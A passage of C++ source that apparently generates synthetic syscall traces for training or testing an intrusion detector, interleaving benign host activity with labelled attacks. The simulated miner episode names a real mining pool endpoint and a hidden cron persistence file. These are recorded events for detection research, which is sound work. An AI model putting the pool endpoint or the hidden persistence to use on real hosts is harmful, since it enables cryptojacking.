		b.file(sh, "/bin/sh", sh_args, "execve", miner);
	}
	const auto pid = b.spawn_pid();
	const std::vector<std::string> args{"-o", "pool.minexmr.com:4444", "--donate-level", "1"};
	b.emit(pid, miner, args, "connect", fd_type::ipv4, "94.130.12.30:4444");
	b.file(pid, miner, args, "openat", "/sys/devices/system/cpu/online");
	b.emit(pid, miner, args, "write", fd_type::ipv4, "94.130.12.30:4444");
	if (r.chance(0.3)) {
		b.file(pid, miner, args, "openat", "/etc/cron.d/.x11");
		b.file(pid, miner, args, "write", "/etc/cron.d/.x11");
	}
	(void)t;
}

inline void run_attack(attack_kind k, trace_builder& b, const scenario_template& t, rng& r) {
	switch (k) {
	case attack_kind::shell_command: attack_shell_command(b, t, r); break;
	case attack_kind::reverse_shell: attack_reverse_shell(b, t, r); break;
	case attack_kind::dropper: attack_dropper(b, t, r); break;
	case attack_kind::path_traversal: attack_path_traversal(b, t, r); break;
	case attack_kind::webshell: attack_webshell(b, t, r); break;
	case attack_kind::container_escape: attack_container_escape(b, t, r); break;
	case attack_kind::rogue_module: attack_rogue_module(b, t, r); break;
	case attack_kind::sql_injection: attack_sql_injection(b, t, r); break;
	case attack_kind::metadata_ssrf: attack_metadata_ssrf(b, t, r); break;
	case attack_kind::miner: attack_miner(b, t, r); break;
	}
}

inline attack_kind pick_attack(const scenario_template& t, rng& r) {
	double total = 0.0;
	for (const auto& [k, w] : t.attacks) total += w;
	double u = r.uniform() * total;
	for (const auto& [k, w] : t.attacks) {
		if (u < w) return k;
		u -= w;
	}
	return t.attacks.back().first;
}

} // namespace detail

/// Interleaves benign and attack episodes until both label counts (of
/// events in the monitored syscall families) reach their targets.
inline std::vector<raw_event> generate_scenario(const scenario_template& t, std::uint64_t seed, std::size_t n_benign,
                                                std::size_t n_attack) {
	if (n_benign == 0 || n_attack == 0) {
		throw error(error_kind::usage, "scenario generation needs positive benign and attack counts");
	}
	if (t.attacks.empty()) {
		throw error(error_kind::usage, "scenario template " + t.id + " has no attack generators");
	}
	rng r = rng(seed).substream("scenario." + t.id);
	detail::trace_builder b(t, r);
	const auto proxy_pid = b.spawn_pid();
	const auto db_pid = b.spawn_pid();
	std::size_t benign = 0;
	std::size_t attack = 0;
	while (benign < n_benign || attack < n_attack) {
		const bool do_attack = attack < n_attack && (benign >= n_benign || r.chance(0.3));
		const std::size_t before = b.relevant;
		b.current = do_attack ? label::adversarial : label::benign;
		if (do_attack) {
			detail::run_attack(detail::pick_attack(t, r), b, t, r);
			attack += b.relevant - before;
			continue;
		}
		if (r.chance(t.service_share)) {
			detail::service_episode(b, t, b.server_pid(), r);
		} else {
			switch (r.below(8)) {
			case 6: detail::service_episode(b, detail::front_proxy(), proxy_pid, r); break;
			case 7: detail::service_episode(b, detail::app_database(), db_pid, r); break;
			case 0: detail::host_cron(b, r); break;
			case 1: detail::host_backup(b, r); break;
			case 2: detail::host_logging(b, r); break;
			case 3: detail::host_packages(b, r); break;
			case 4: detail::host_admin_login(b, r); break;
			default: detail::host_monitoring(b, r); break;
			}
		}
		benign += b.relevant - before;
	}
	return std::move(b.events);
}

inline void write_trace(std::ostream& out, const std::vector<raw_event>& events) {
	for (const auto& e : events) {
		out << to_json_line(e) << '\n';
	}
}

inline void save_trace(const std::string& path, const std::vector<raw_event>& events) {
	std::ofstream out(path, std::ios::binary);
	if (!out) {
		throw error(error_kind::io, "cannot write trace: " + path);
	}
	write_trace(out, events);
}

} // namespace provfsl
